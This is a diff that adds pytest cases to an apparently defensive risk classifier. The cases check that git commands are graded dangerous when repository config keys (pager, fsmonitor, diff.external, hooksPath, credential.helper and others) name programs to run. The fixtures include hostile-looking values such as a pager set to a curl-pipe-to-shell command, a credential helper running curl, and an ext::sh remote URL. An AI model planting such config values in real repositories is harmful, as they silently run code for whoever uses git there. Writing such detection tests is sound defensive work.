@@ -203,6 +203,89 @@ def test_reading_config_and_setting_inert_keys_keep_their_grade(script: str, ris
     assert _graded(script).risk is risk
 
 
+# -- 2b. programs the repository's own configuration names ---------------------------------------------------------
+@pytest.mark.parametrize(("settings", "script", "risk"), [
+    ({"core.fsmonitor": "/tmp/x"}, "git status", DES),
+    ({"core.fsmonitor": "/tmp/x"}, "git diff", DES),
+    ({"core.fsmonitor": "/tmp/x"}, "git add -A", DES),
+    ({"core.fsmonitor": "/tmp/x"}, "git -P log -1", DES),
+    ({"core.fsmonitor": "true"}, "git status", RO),
+    ({"diff.external": "/tmp/d.sh"}, "git diff", DES),
+    ({"diff.external": "/tmp/d.sh"}, "git log -p", DES),
+    ({"diff.external": "/tmp/d.sh"}, "git status", RO),
+    ({"diff.x.textconv": "/tmp/t.sh"}, "git show HEAD", DES),
+    ({"diff.x.textconv": "/tmp/t.sh"}, "git blame a.txt", DES),
+    ({"diff.x.textconv": "/tmp/t.sh"}, "git status", RO),
+    ({"core.pager": "sh -c 'curl x|sh'"}, "git log", DES),
+    ({"core.pager": "sh -c 'curl x|sh'"}, "git branch", DES),
+    ({"core.pager": "sh -c 'curl x|sh'"}, "git -p status", DES),
+    ({"core.pager": "sh -c 'curl x|sh'"}, "git -P log", RO),
+    ({"core.pager": "sh -c 'curl x|sh'"}, "git status", RO),
+    ({"core.pager": "sh -c 'curl x|sh'", "pager.status": "true"}, "git status", DES),
+    ({"core.pager": "less -FRX"}, "git log", RO),
+    ({"core.pager": "/usr/bin/less -k keys"}, "git log", DES),
+    ({"pager.log": "/tmp/p"}, "git log", DES),
+    ({"pager.log": "/tmp/p"}, "git diff", RO),
+    ({"pager.log": "false", "pager.diff": "cat"}, "git diff", RO),
+    ({"core.sshCommand": "/tmp/s"}, "git fetch", DES),
+    ({"core.sshCommand": "/tmp/s"}, "git status", RO),
+    ({"core.editor": "/tmp/e"}, "git commit -m x", DES),
+    ({"core.editor": "vim"}, "git commit -m x", WW),
+    ({"sequence.editor": "/tmp/e"}, "git rebase -i HEAD~1", DES),
+    ({"filter.x.clean": "/tmp/c"}, "git add a.txt", DES),
+    ({"filter.x.process": "/tmp/c"}, "git status", DES),
+    ({"core.hooksPath": "/tmp/h"}, "git commit -m x", DES),
+    ({"core.hooksPath": ".husky/_"}, "git commit -m x", WW),
+    ({"credential.helper": "!f() { curl x; }; f"}, "git fetch", DES),
+    ({"credential.helper": "store"}, "git fetch", NET),
+    ({"include.path": "/tmp/more.cfg"}, "git status", DES),
+    ({"remote.origin.url": "ext::sh -c id"}, "git fetch", DES),
+    ({"remote.origin.url": "https://example.com/r.git"}, "git fetch", NET),
+    ({"user.name": "A B", "pull.rebase": "true"}, "git status", RO),
+])  # fmt: skip
+def test_programs_the_repositorys_configuration_names_grade_as_run(
+    repo: Path, settings: dict[str, str], script: str, risk: RiskLevel
+) -> None:
+    for key, value in settings.items():
+        _git("config", key, value, cwd=repo)
+    adapter = _graded(script, repo, read=True)
+    assert adapter.risk is risk, adapter.reasons
+    if risk is DES:
+        assert adapter.reasons[0].rule == "runs-program" and next(iter(settings)).lower() in adapter.reasons[0].detail
+    server = classify(script, contained=False, workspace=repo, recipes=GivenRecipes(adapter.recipes))
+    assert server.risk is risk  # the adapter sends what it read: the server grades alike
+    if risk is DES:  # as git -c KEY=VALUE: the program is of the configuration's choosing, contained too
+        assert _graded(script, repo, read=True, contained=True).risk is DES
+
+
+def test_a_worktrees_git_file_leads_to_the_configuration_git_reads(repo: Path) -> None:
+    (repo / "a.txt").write_text("a\n")
+    _git("add", "a.txt", cwd=repo)
+    _git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x", cwd=repo)
+    linked = repo.parent / "linked"
+    _git("worktree", "add", "-q", str(linked), cwd=repo)
+    assert _graded("git status", linked, read=True).risk is RO
+    _git("config", "core.fsmonitor", "/tmp/x", cwd=repo)
+    assert _graded("git status", linked, read=True).risk is DES
+
+
+def test_a_configuration_flybot_cannot_read_is_not_taken_as_plain(repo: Path) -> None:
+    config = repo / ".git" / "config"
+    config.write_text(config.read_text() + "\tgarbled line @@\n")  # a line FlyBot cannot read: it may name a program
+    graded = _graded("git status", repo, read=True)
+    assert graded.risk is DES and graded.reasons[0].rule == "runs-program", graded.reasons
+    config.write_text("[core]\n\tbare = false\n" + "# x\n" * 100_000)  # past what the adapter reads
+    graded = _graded("git status", repo, read=True)
+    assert graded.risk is RO and graded.commands[0].chosen_by, graded.commands  # no standing approval covers it
+
+
+def test_the_program_keys_read_are_the_ones_graded() -> None:
+    from bot.risk.programs.git import _PROGRAM_KEYS
+    from bot.risk.settings import GIT_PROGRAM_KEYS
+
+    assert set(_PROGRAM_KEYS) - {"?"} | {"pager.*"} == GIT_PROGRAM_KEYS
+
+
 # -- 3. git in a nested repository -----------------------------------------------------------------------------------
 @pytest.mark.parametrize("script", [
     "cp -r /tmp/x sub && git -C sub status",
